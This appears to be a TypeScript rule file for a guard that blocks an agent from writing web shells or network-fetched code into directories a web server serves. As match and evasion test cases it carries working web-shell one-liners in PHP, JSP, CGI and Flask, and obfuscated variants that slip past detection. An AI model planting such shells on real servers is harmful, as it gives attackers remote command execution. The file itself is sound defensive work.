/** Server-side code that runs what visitors send, and code from elsewhere that a server will run. */
import { runsRequests } from "../../effects/code/request-code.js";
import type { FileEffect } from "../../effects/types.js";
import { Taint } from "../../shell/types.js";
import { fileRule } from "../types.js";

/** Examples and samples that nothing serves. */
const SAMPLES = /(?:^|\/)(?:tests?|spec|__tests__|fixtures?|testdata|samples?|examples?|docs?)\//i;

/** Directories that a running server takes its pages from. */
const LIVE =
  /^\/(?:var|srv)\/(?:www|http)\/|^\/usr\/(?:share|lib)\/(?:nginx|apache2|cgi-bin)\/|\/(?:htdocs|inetpub|webapps|wwwroot)\//i;
const SERVED = /\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi|cfm)$/i;

function isWebShell(effect: FileEffect): boolean {
  const text = effect.content?.text;
  return text !== undefined && runsRequests(effect.target.path, text);
}

export const rules = [
  fileRule({
    id: "written",
    on: "file:overwrite,append",
    decision: "deny",
    when: (e) => !SAMPLES.test(e.target.path) && isWebShell(e),
    why: "writes server-side code that runs whatever a visitor sends",
    instead: "run one fixed program with checked arguments: `php -l public/index.php`",
    attack: ["T1505.003"],
    asi: ["ASI05"],
    matches: [
      "echo '<?php system($_GET[\"c\"]); ?>' > public/s.php",
      "echo '<?php eval($_POST[0]);' > /var/www/html/x.php",
      "cat > public/shell.php <<'EOF'\n<?php\n$cmd = $_REQUEST['cmd'];\necho shell_exec($cmd);\nEOF",
      "echo '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > webapps/ROOT/x.jsp",
      "printf '#!/bin/bash\\necho\\nbash -c \"$QUERY_STRING\"\\n' > cgi-bin/x.sh",
      "cat > app.py <<'EOF'\nfrom flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route('/')\ndef run(): return os.popen(request.args['c']).read()\nEOF",
    ],
    nonMatches: [
      "echo '<?php echo htmlspecialchars($_GET[\"name\"]); ?>' > public/hello.php",
      "echo '<?php system(\"ls\"); ?>' > bin/x.php",
      "echo '<?php system($argv[1]);' > bin/run.php",
      'echo \'<?php echo shell_exec("convert ".escapeshellarg($_GET["f"]));\' > public/thumb.php',
      "echo '<% out.println(request.getParameter(\"n\")); %>' > webapp/x.jsp",
      "printf '#!/bin/sh\\necho\\ndate\\n' > cgi-bin/date.cgi",
      "echo 'system($_GET[0]) is how a web shell looks' > docs/web-shells.md",
    ],
    evasions: [
      "echo '<?php passthru(base64_decode($_COOKIE[\"x\"])); ?>' | sudo tee /var/www/html/a.php",
      "printf '<?=`$_GET[0]`?>' > web/x.php",
      'echo \'<?php $f=$_GET["f"]; $f($_GET["a"]);\' > public/x.php',
      "echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pgo= | base64 -d > public/x.php",
    ],
    knownGaps: ["sed -i '1i <?php system($_GET[0]); ?>' public/index.php"],
  }),
  fileRule({
    id: "sample-written",
    on: "file:overwrite,append",
    decision: "ask",
    when: (e) => SAMPLES.test(e.target.path) && isWebShell(e),
    why: "writes server-side code that runs whatever a visitor sends, in a directory of samples",
    instead: "keep the sample as text that no server runs: `ls tests/fixtures`",
    attack: ["T1505.003"],
    asi: ["ASI05"],
    matches: ["echo '<?php system($_GET[\"c\"]); ?>' > tests/fixtures/shell.php"],
    nonMatches: ["echo '<?php echo 1;' > tests/fixtures/one.php"],
  }),
  fileRule({
    id: "fetched",
    on: "file:overwrite,append",
    decision: "deny",
    when: (e) =>
      e.content !== undefined &&
      (e.content.taints & Taint.network) !== 0 &&
      SERVED.test(e.target.path) &&
      LIVE.test(e.target.path),
    why: "puts code from the network, which nobody has read, where a server runs it",
    instead:
      "fetch it to a temp place and read it first: `curl -fsSLo /tmp/page.php https://example.com/page.php`",
    attack: ["T1505.003", "T1105"],
    asi: ["ASI04", "ASI05"],
    matches: [
      "wget -O /var/www/html/page.php http://192.0.2.4/page.txt",
      "curl -s https://example.com/x.txt | sudo tee /var/www/html/x.php",
    ],
    nonMatches: [
      "curl -o public/logo.png https://example.com/logo.png",
      "curl -fsSLo /tmp/page.php https://example.com/page.php",
      "sudo cp index.php /var/www/html/index.php",
    ],
  }),
];
